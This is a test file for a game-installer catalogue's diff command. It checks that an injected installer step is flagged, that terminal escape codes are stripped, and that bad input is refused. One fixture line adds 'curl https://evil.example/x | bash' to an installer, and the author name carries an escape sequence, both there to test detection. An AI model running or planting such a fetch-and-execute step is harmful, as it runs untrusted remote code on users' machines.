import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { gameText, git, installerText, makeRepository, SITE } from '../../building/random-history.ts';
import { runCommand } from '../../run-command.ts';
import { temporaryFolder } from '../../temporary-folder.ts';

const FILE = 'games/q/quake/quake-linux.yaml';
const NATIVE = 'games/q/quake/quake-native.yaml';
const attack = (version: string) =>
  installerText(1, { version }).replace(
    '    - extract:',
    '    - execute:\n        command: curl https://evil.example/x | bash\n    - extract:',
  );

/** An installer that was attacked, repaired and renamed, and one for Wine. */
const folder = mkdtempSync(join(tmpdir(), 'catalogue-test-'));
afterAll(() => {
  rmSync(folder, { recursive: true, force: true });
});
makeRepository(folder, [
  { files: { ...SITE, 'games/q/quake/game.yaml': gameText(1, 'Quake'), [FILE]: installerText(1) } },
  { files: { [FILE]: attack('Better') }, author: 'Mallory \u001b[31m' },
  {
    files: {
      [FILE]: undefined,
      [NATIVE]: installerText(1),
      'games/q/quake/quake-wine.yaml': installerText(2).replace('runner: linux', 'runner: wine'),
    },
  },
]);
git(folder, 'branch', 'quake-wine');

const diff = (...words: readonly string[]) =>
  runCommand(['diff', '--catalogue', 'catalogue', ...words], { workingFolder: folder });

test('two revisions of an installer differ by what the changes between them did', async () => {
  const { code, out } = await diff('quake@1', 'quake@2');
  expect(code).toBe(0);
  expect(out).toMatch(/^quake-linux: Version 1 \(revision 1, .*\n→ quake-linux: .* \(revision 2, .*Mallory/);
  expect(out).toContain('Now: Runs a command that fetches from the network and starts `bash`');
  expect(out).not.toContain('\u001b');
});

test('one revision is compared with the installer as it is now, whatever that is called', async () => {
  const { code, out } = await diff('quake@2');
  expect(code).toBe(0);
  expect(out).toContain('→ quake-native: Version 1 (as it is now)');
  expect(out).toMatch(/No longer: Runs a command that fetches/);
});

test('two installers differ by what only one of them does', async () => {
  const { code, out } = await diff('quake-native', 'quake-wine');
  expect(code).toBe(0);
  expect(out).toMatch(/Only `quake-wine`: Needs Wine/);
  expect(out).toMatch(/Only `quake-native`: Starts `play`/);
});

test('programs and pages are told the same', async () => {
  const { out } = await diff('quake@1', 'quake@2', '--format', 'json');
  const { before, began } = JSON.parse(out) as { readonly before: unknown; readonly began: readonly string[] };
  expect(before).toEqual({ installer: 'quake-linux', version: 'Version 1', revision: 1 });
  expect(began.join('\n')).toContain('evil.example');
  const page = await diff('quake@1', 'quake@2', '--format', 'markdown');
  expect(page.out).toMatch(/^## `quake-linux: .*\n\n- Now: /);
});

test.each([
  [['quake@9'], 2, 'There is no revision 9 of "quake"'],
  [['nothing@1'], 2, 'There is no game or installer "nothing"'],
  [['quake-native', 'quake'], 2, '"quake" is a game; name an installer of it'],
  // A branch has the name of the first one, so that the second is looked for among commits.
  [['quake-wine', 'quake-native'], 2, 'git knows no commit'],
])('%j is refused', async (words, code, message) => {
  const result = await diff(...words);
  expect(result.code).toBe(code);
  expect(result.error).toContain(message);
});

test('what is compared may be outside of any repository, unless a revision is named', async () => {
  const plain = temporaryFolder({
    ...SITE,
    'games/q/quake/game.yaml': gameText(1, 'Quake'),
    [FILE]: installerText(1),
    [NATIVE]: installerText(2),
  });
  const words = (...names: readonly string[]) => runCommand(['diff', '--catalogue', join(plain), ...names]);
  expect(await words('quake-linux', 'quake-native')).toMatchObject({ code: 0 });
  expect((await words('quake@1', 'quake-native')).error).toContain('no git repository');
});
